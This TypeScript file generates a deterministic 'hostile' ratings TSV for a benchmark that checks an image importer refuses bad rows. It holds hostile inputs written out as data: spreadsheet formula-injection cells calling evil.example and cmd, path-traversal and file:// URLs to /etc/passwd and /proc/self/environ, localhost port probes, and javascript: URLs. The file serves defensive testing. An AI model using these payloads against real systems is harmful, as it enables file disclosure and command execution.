/**
 * The hostile EOL ratings file of `npm run bench:hostile` (scripts/bench/hostile.ts): a seeded,
 * deterministic mix of valid rows and rows that break the format or name things the importer must
 * never read (local files, local ports, data: and javascript: URLs, hostile bodies on the local
 * test server). Pure: the bytes depend only on the options.
 */
import { mulberry32 } from '../../src-shared/domain/random';

/** The last kinds of HOSTILE_KINDS, in its order: all are in URL_REFUSED (a hostile URL or body on the test server). */
const URL_REFUSED_LAST = [
  'url_javascript',
  'url_long',
  'server_non_image',
  'server_html',
  'server_empty',
  'server_truncated_jpeg',
  'server_bomb_png',
  'server_slow_drip',
  'server_404',
  'server_redirect_loop',
  'server_redirect_file',
  'server_redirect_etc',
] as const;

/** What each generated data row is, so the benchmark can say what became of each kind. */
export const HOSTILE_KINDS = [
  'valid',
  'duplicate_conflict',
  'formula_cell',
  'columns_short',
  'columns_long',
  'rating_text',
  'rating_range',
  'rating_empty',
  'huge_field',
  'nul_byte',
  'invalid_utf8',
  'bom_in_row',
  'url_file',
  'url_relative',
  'url_traversal',
  'url_absolute',
  'url_local_port',
  'url_data',
  ...URL_REFUSED_LAST,
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

/** Kinds whose row breaks the format: the importer must refuse the row, naming file, line and reason. */
export const ROW_REFUSED: ReadonlySet<HostileKind> = new Set<HostileKind>(['columns_short', 'columns_long', 'rating_text', 'rating_range', 'rating_empty', 'huge_field', 'nul_byte']);

/** Kinds whose URL must never become a picture of the library (a local file, a local port, a hostile body). */
export const URL_REFUSED: ReadonlySet<HostileKind> = new Set<HostileKind>([
  'url_file',
  'url_relative',
  'url_traversal',
  'url_absolute',
  'url_local_port',
  ...URL_REFUSED_LAST,
]);

export interface HostileOptions {
  /** Data rows (not counting the header). */
  lines: number;
  seed: number;
  /** The local test server, e.g. `http://127.0.0.1:40123` (no trailing slash). */
  server: string;
  /** Valid rows name `${server}/ok/<k>.jpg` for k in 0..pool-1. */
  pool: number;
  /** Absolute path of a canary file outside the library (file:// and absolute-path rows name it). */
  canary: string;
  /** The canary as seen from the input file's folder (`../canary/canary.jpg`). */
  canaryRelative: string;
  /** A port on 127.0.0.1 where nothing listens. */
  closedPort: number;
  /** Share of valid rows (default 0.45); the rest are spread over the hostile kinds. */
  validShare?: number;
}

export interface HostileRow {
  /**
   * 1-based line of the row as the importer counts them: the header is line 1 and only \n ends a
   * line, so a row ended by a lone CR shares its line with the next row (`crJoined`).
   */
  line: number;
  /** The row ended with a lone CR, or follows one: one line with a CR inside (refused as a whole, naming the line). */
  crJoined: boolean;
  kind: HostileKind;
  id: string;
  url: string;
}

export interface HostileFile {
  bytes: Buffer;
  rows: HostileRow[];
  counts: Record<HostileKind, number>;
}

/** At most this many rows of the kinds that are big (a 1 MB field, a 200 KB URL), so the file stays a few MB. */
const CAPS: Partial<Record<HostileKind, number>> = { huge_field: 3, url_long: 10 };

const HEADER = 'obj_with_overall_rating\tobj_url\toverall_rating\tancestry';
const TINY_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** The hostile file's bytes and what each row is. Same options, same bytes. */
export function hostileRatings(o: HostileOptions): HostileFile {
  const rand = mulberry32(o.seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
  const hostile = HOSTILE_KINDS.filter((k) => k !== 'valid');
  const validShare = o.validShare ?? 0.45;
  const counts = Object.fromEntries(HOSTILE_KINDS.map((k) => [k, 0])) as Record<HostileKind, number>;
  const rows: HostileRow[] = [];
  const parts: Buffer[] = [Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(HEADER), Buffer.from('\n')];
  let line = 2;
  let afterCr = false;
  let nextId = 7_000_000 + Math.floor(rand() * 1000) * 1000;
  const rating = () => (1 + rand() * 4).toFixed(4);
  const poolUrl = () => `${o.server}/ok/${Math.floor(rand() * o.pool)}.jpg`;
  const tsv = (...cells: string[]) => Buffer.from(cells.join('\t'));
  const ancestry = () => (rand() < 0.5 ? '{}' : '{"kingdom":{"name":"Animalia"}}');
  // A duplicate id that, with the next row, rates the same picture 1 and then 5.
  let pendingDuplicate: { id: string; url: string } | null = null;

  for (let i = 0; i < o.lines; i++) {
    let kind: HostileKind = pendingDuplicate ? 'duplicate_conflict' : rand() < validShare ? 'valid' : pick(hostile);
    if (counts[kind] >= (CAPS[kind] ?? Infinity)) kind = 'valid';
    const id = String(nextId++);
    let url = poolUrl();
    let body: Buffer;
    switch (kind) {
      case 'valid':
        body = tsv(id, url, rating(), ancestry());
        break;
      case 'duplicate_conflict':
        if (pendingDuplicate) {
          body = tsv(pendingDuplicate.id, pendingDuplicate.url, '5', '{}');
          url = pendingDuplicate.url;
          pendingDuplicate = null;
        } else {
          pendingDuplicate = { id, url };
          body = tsv(id, url, '1', '{}');
        }
        break;
      case 'formula_cell':
        body = tsv(pick(['=HYPERLINK("http://evil.example/"&A1)', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3']), url, rating(), pick(['=1+1', '{"kingdom":{"name":"=cmd()"}}']));
        break;
      case 'columns_short':
        body = tsv(id, url);
        break;
      case 'columns_long':
        body = tsv(id, url, rating(), '{}', 'extra', 'columns');
        break;
      case 'rating_text':
        // Not numbers the import reads ('4,5' alone is a decimal comma, 4.5: parse.ts; '4,5,1' is not).
        body = tsv(id, url, pick(['good', 'NaN', '4,5,1', '0x3', '=1+4', 'Infinity']), '{}');
        break;
      case 'rating_range':
        body = tsv(id, url, pick(['0', '-1', '5.0001', '6', '1e9', '-0.5']), '{}');
        break;
      case 'rating_empty':
        body = tsv(id, url, '', '{}');
        break;
      case 'huge_field':
        body = tsv(id, url, rating(), `{"note":"${'x'.repeat(1024 * 1024)}"}`);
        break;
      case 'nul_byte':
        body = Buffer.concat([tsv(id, url, rating()), Buffer.from('\t{"a":"b\u0000c"}')]);
        break;
      case 'invalid_utf8':
        // A lone continuation byte and an overlong sequence in the ancestry cell; the row itself is fine.
        body = Buffer.concat([tsv(id, url, rating()), Buffer.from('\t{"n":"'), Buffer.from([0x80, 0xc0, 0xaf, 0xff]), Buffer.from('"}')]);
        break;
      case 'bom_in_row':
        body = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), tsv(id, url, rating(), '{}')]);
        break;
      case 'url_file':
        url = pick([`file://${o.canary}`, 'file:///etc/passwd', `file://localhost${o.canary}`]);
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_relative':
        url = pick([o.canaryRelative, `./${o.canaryRelative}`, 'canary.jpg']);
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_traversal':
        url = pick(['../../../../../../../../etc/passwd', `../../../../../../..${o.canary}`, `${o.server}/ok/../../../../etc/passwd`, `${o.server}/%2e%2e/%2e%2e/etc/passwd`]);
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_absolute':
        url = pick(['/etc/passwd', o.canary, '/proc/self/environ', '/dev/zero']);
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_local_port':
        url = pick([`http://127.0.0.1:${o.closedPort}/x.jpg`, `http://localhost:${o.closedPort}/x.jpg`, `http://[::1]:${o.closedPort}/x.jpg`, `http://0.0.0.0:${o.closedPort}/`]);
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_data':
        url = `data:image/png;base64,${TINY_PNG}`;
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_javascript':
        url = pick(['javascript:alert(1)', 'JaVaScRiPt:fetch("file:///etc/passwd")', 'vbscript:msgbox(1)']);
        body = tsv(id, url, rating(), '{}');
        break;
      case 'url_long':
        url = `${o.server}/ok/${'a'.repeat(200_000)}.jpg`;
        body = tsv(id, url, rating(), '{}');
        break;
      default: {
        const path: Record<string, string> = {
          server_non_image: '/hostile/nonimage.jpg',
          server_html: '/hostile/page.jpg',
          server_empty: '/hostile/empty.jpg',
          server_truncated_jpeg: '/hostile/truncated.jpg',
          server_bomb_png: '/hostile/bomb.png',
          server_slow_drip: '/hostile/drip.jpg',
          server_404: '/hostile/missing.jpg',
          server_redirect_loop: '/hostile/loop',
          server_redirect_file: '/hostile/to-file',
          server_redirect_etc: '/hostile/to-etc',
        };
        url = `${o.server}${path[kind]}`;
        body = tsv(id, url, rating(), '{}');
      }
    }
    counts[kind]++;
    const end = rand();
    const loneCr = end >= 0.1 && end < 0.15;
    rows.push({ line, kind, id, url, crJoined: loneCr || afterCr });
    parts.push(body, Buffer.from(end < 0.1 ? '\r\n' : loneCr ? '\r' : '\n'));
    afterCr = loneCr;
    if (!loneCr) line++;
  }
  return { bytes: Buffer.concat(parts), rows, counts };
}
